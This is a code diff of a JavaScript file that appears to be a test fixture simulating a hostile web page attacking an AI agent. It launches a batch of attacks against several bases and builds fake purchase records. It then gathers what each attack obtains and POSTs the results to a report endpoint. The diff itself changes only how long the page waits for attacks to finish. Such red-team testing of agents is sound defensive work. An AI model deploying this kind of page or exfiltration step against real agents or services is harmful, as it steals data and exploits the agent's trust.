@@ -1,7 +1,7 @@
-// What a hostile page tries against the agent, and what it learns: "" is nothing. Everything is tried at once.
+// What a hostile page tries against the agent, and what it learns: "" is nothing. Everything is tried at once, and some
+// of it never ends: the page has done when nothing has for a while.
 
 const got = {};
-const inTime = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 4000, ""))]);
 const sale = (name) => JSON.stringify({
   transaction_id: name.replace(/[^A-Za-z0-9_:-]/g, "_").slice(0, 64), type: "purchase",
   occurred_at: "2026-02-14T16:41:09+01:00", currency: "SEK", total: "250.00",
@@ -143,12 +143,18 @@ function attacks(base) {
 }
 
 (async () => {
-  const trying = told.bases.flatMap((base) => Object.entries(attacks(base)).map(async ([name, attack]) => {
-    const key = `${name} ${base}`;
-    try {
-      got[key] = (await inTime(Promise.resolve(attack(key)))) ?? "";
-    } catch { got[key] = ""; }
-  }));
-  await Promise.all(trying);
+  await new Promise((done) => {
+    let quiet = setTimeout(done, 8000);
+    for (const base of told.bases) {
+      for (const [name, attack] of Object.entries(attacks(base))) {
+        const key = `${name} ${base}`;
+        got[key] = "";
+        Promise.resolve().then(() => attack(key)).then((spoil) => { got[key] = spoil ?? ""; }, () => {}).finally(() => {
+          clearTimeout(quiet);
+          quiet = setTimeout(done, 4000);
+        });
+      }
+    }
+  });
   fetch(told.report, { method: "POST", mode: "no-cors", body: JSON.stringify(got) });
 })();
